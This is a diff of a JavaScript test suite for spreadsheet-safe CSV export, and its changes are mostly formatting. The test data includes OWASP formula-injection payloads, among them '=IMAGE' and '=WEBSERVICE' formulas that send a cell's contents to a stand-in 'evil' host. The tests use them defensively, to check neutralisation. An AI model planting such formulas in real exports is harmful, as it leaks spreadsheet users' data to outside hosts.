@@ -29,7 +29,7 @@ const OWASP = [
   '=IMAGE("https://evil/?"&A1)',
   '=WEBSERVICE("http://evil/?"&A1)',
   '=1+2";=1+2',
-  "=1+2'\" ;,=1+2",
+  '=1+2\'" ;,=1+2',
   '-=1+1',
   '+=1+1',
   '\t=1+1',
@@ -61,16 +61,27 @@ describe('formula-safe exports', () => {
     }
   });
 
-  it.each(['-5', '+3', '-3.5', '-1,234.5', '-1.234,5', '+0', '-0.001', '-12%', '-1e5', '-€5', '1 234', '-1\u00a0234,5'])(
-    'keeps the number %j a number',
-    (n) => {
-      expect(neutralize(n)).toBe(n);
-      expect(toCsv([[n]])).toBe(`\ufeff${/,/.test(n) ? `"${n}"` : n}\r\n`);
-    },
-  );
+  it.each([
+    '-5',
+    '+3',
+    '-3.5',
+    '-1,234.5',
+    '-1.234,5',
+    '+0',
+    '-0.001',
+    '-12%',
+    '-1e5',
+    '-€5',
+    '1 234',
+    '-1\u00a0234,5',
+  ])('keeps the number %j a number', (n) => {
+    expect(neutralize(n)).toBe(n);
+    expect(toCsv([[n]])).toBe(`\ufeff${/,/.test(n) ? `"${n}"` : n}\r\n`);
+  });
 
   it('leaves text that only contains the characters elsewhere alone', () => {
-    for (const text of ['a=b', 'e-mail', 'user@example.com', 'C++', 'Acme Ltd', '', '  indented']) expect(neutralize(text)).toBe(text);
+    for (const text of ['a=b', 'e-mail', 'user@example.com', 'C++', 'Acme Ltd', '', '  indented'])
+      expect(neutralize(text)).toBe(text);
   });
 
   it('a neutralized cell is quoted as RFC 4180 says, in one field', () => {
